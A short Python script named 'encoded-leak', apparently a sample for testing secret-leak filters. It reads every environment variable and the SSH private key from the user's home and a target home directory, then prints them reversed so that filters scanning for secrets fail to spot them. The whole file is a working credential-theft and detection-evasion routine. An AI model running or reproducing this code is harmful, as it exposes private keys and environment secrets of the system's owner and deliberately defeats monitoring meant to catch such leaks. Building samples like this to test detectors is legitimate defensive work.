# encoded-leak (Python): the environment and the SSH key, printed reversed:
# no filter looking for the secret finds it, and [::-1] brings it back.
import os, sys
T = dict(l.rstrip("\n").split("=", 1) for l in open(globals().get("TARGETS") or sys.argv[1]) if "=" in l and not l.startswith("#"))
T = {k: v.strip("'") for k, v in T.items()}

blob = "".join(f"{k}={v}\n" for k, v in os.environ.items())
for home in (os.path.expanduser("~"), T["T_HOME"]):
    try:
        blob += open(os.path.join(home, ".ssh", "id_rsa")).read()
    except OSError:
        pass
print(blob[::-1])
